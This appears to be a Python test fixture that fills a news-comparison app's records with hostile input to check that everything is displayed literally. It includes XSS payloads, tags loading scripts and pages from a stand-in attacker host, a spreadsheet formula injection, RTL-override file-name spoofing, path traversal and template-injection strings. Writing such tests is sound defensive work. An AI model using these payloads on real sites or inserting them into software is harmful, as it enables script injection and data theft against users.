"""Articles that attack: invented words with a script, a style, an address or a trick in each field.

Nothing of it may run or load anywhere; all of it has to be shown as it was written.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from typing import TYPE_CHECKING

from builders import START, make_article, make_claim, make_match, make_summary
from compare.records import (
    Attribution,
    ClaimGroup,
    Cut,
    Difference,
    Event,
    PairRelation,
    Reject,
    Relation,
    RunResult,
    SignalScore,
    Span,
)
from compare.view import pair_key

if TYPE_CHECKING:
    from compare.records import Article, Claim
    from compare.store.db import Store

EVENT = "evil"
HOST = "evil.example"  # nothing may ever ask it for anything
RUN = "alert(document.domain)"
LOADS = (
    f'<script src="https://{HOST}/x.js"></script>',
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="https://{HOST}/pixel.png">',
    f"<svg onload={RUN}><image href='https://{HOST}/s.svg'/></svg>",
    f'<iframe src="https://{HOST}/"></iframe>',
    f"<style>@import url(https://{HOST}/a.css); body{{display:none}}</style>",
    f'<link rel=stylesheet href="https://{HOST}/b.css">',
    f'<meta http-equiv=refresh content="0;url=https://{HOST}/">',
    f'<base href="https://{HOST}/">',
    f'<form action="https://{HOST}/"><input autofocus onfocus={RUN}></form>',
    f'<a href="javascript:{RUN}">js</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">data</a>',
    f'<object data="https://{HOST}/o"></object>',
    f"<details open ontoggle={RUN}>",
    f"<math><mtext><mglyph><style><img src onerror={RUN}></style></mglyph></mtext></math>",
    f"<div style=\"background:url('https://{HOST}/bg.png');position:fixed;inset:0\">over</div>",
)
BREAKS = f"\"'><script>{RUN}</script> ' onmouseover={RUN} x=\" --> ]]> </title></style></textarea>"
# Each is to be read exactly so; the parts that a renderer would eat are what is looked for.
LITERAL = (
    "**bolded**",
    "__underlined__",
    "`coded`",
    "$x^2$",
    ":red[painted]",
    ":material/bug_report:",
    ":streamlit:",
    "<b>tagged</b>",
    "&lt;entity&gt;",
    "{{7*7}}",
    "${7*7}",
    "%(name)s",
    "{0.__class__}",
    "~~struck~~",
    "a -> b <- c -- d >= e <= f ~= g <-> h",
    ":bug:",
)
MARKS = " ".join(LITERAL)
LINKS = f"[linked](https://{HOST}/m) ![pictured](https://{HOST}/i.png) https://{HOST}/bare"
TURNED = "moc.\u202eknalb\u2066"
FORMULA = f'=HYPERLINK("https://{HOST}/f","see")'
ADDRESSES = (
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'https://told.example/"onmouseover="{RUN}"',
    "https://told.example/\u202efdp.exe",
)
ALL = " ".join((*LOADS, BREAKS, MARKS, LINKS, TURNED))
_IN_NAMES = " ".join(words for words in LITERAL if "/" not in words)
FILE = f"../../{TURNED}<img src=x onerror={RUN}>{_IN_NAMES}.txt"


def articles() -> list[Article]:
    """Four reports; each field of each is an attack."""
    return [
        replace(
            make_article(number),
            outlet=f"{name} {LOADS[number + 2]} {MARKS} {TURNED}",
            title=f"{FORMULA if number == 1 else name} {ALL}",
            text=f"Nine {number} {ALL} were hurt.\nNobody {ALL} knows {number}.\n{FORMULA} it was.",
            url=ADDRESSES[number],
            author=f"{name} {ALL}",
            country=f"=1+1 {MARKS}",
            carries=f"{LOADS[0]} {MARKS}" if number else None,
            source_name=FILE,
            source_text=f"Menu {ALL}",
            cuts=(Cut(f"cut {ALL}", f"why {ALL}"),),
            published_at=START + timedelta(hours=number),
        )
        for number, name in enumerate(("Alpha", "Beta", "Gamma", "Delta"))
    ]


def claims(article: Article) -> list[Claim]:
    """The three lines of a report as claims; the first is said by an attack."""
    lines = article.text.split("\n")
    found = [make_claim(article, text, place) for place, text in enumerate(lines)]
    said = Attribution(Span(0, 4, "Nine"), source_name=f"Eva {ALL}", cue=Span(0, 4, "Nine"))
    return [replace(found[0], attributions=(said,), stance="hedged"), *found[1:]]


def fill(store: Store) -> list[Claim]:
    """Put them into the store as an event that they dispute, with what people said of it."""
    reports = articles()
    rejects = [Reject(FILE, f"is bad {ALL}", f"Try {ALL}", 7, f"field {MARKS}")]
    store.add(reports, rejects, person=f"Mal {ALL}")
    told = {article.id: claims(article) for article in reports}
    store.save_claims(told)
    rows = list(zip(*told.values(), strict=True))
    firsts = rows[0]
    store.save_run(_result(reports, rows), replace(make_summary(), model_id=f"model {MARKS}"))
    store.decide(firsts[0].id, firsts[1].id, "confirm", f"Mal {ALL}")
    store.set_alias(f"var {MARKS} {LOADS[2]}", f"name {ALL}", f"Mal {ALL}")
    store.set_outlet(reports[0].outlet, f"land {ALL}", f"Mal {ALL}")
    return [claim for row in rows for claim in row]


def _result(reports: list[Article], rows: list[tuple[Claim, ...]]) -> RunResult:
    words = Difference("number", f"l {ALL}", f"r {ALL}", ((0, 4),), ((0, 4),), f"note {ALL}")
    pairs = [(row[0], other) for row in rows for other in row[1:]]
    related = []
    for number, (left, right) in enumerate(pairs):
        one, two = pair_key(left.id, right.id)
        label = ("contradict", "differ", "agree")[number % 3]
        relation = Relation(label, 0.9, () if label == "agree" else (words,), number == 0)  # type: ignore[arg-type]
        related.append(PairRelation(one, two, relation))
    matches = tuple(
        make_match(left, right, 0.9 if number % 2 else 0.6)
        for number, (left, right) in enumerate(pairs)
    )
    event = Event(EVENT, reports[1].title, tuple(one.id for one in reports), START, START)
    return RunResult(
        events=(event,),
        event_ids=(EVENT,),
        matches=matches,
        scores=tuple(
            SignalScore(one.left, one.right, name, 0.8, weight, f"because {ALL}")
            for one in matches
            for name, weight in (("embedding", 2.0), ("fuzzy", -0.5))
        ),
        groups=tuple(
            ClaimGroup(row[0].id, EVENT, tuple(one.id for one in row), 0.6, (0, 0, 1, 2))
            for row in rows
        ),
        relations=tuple(related),
    )
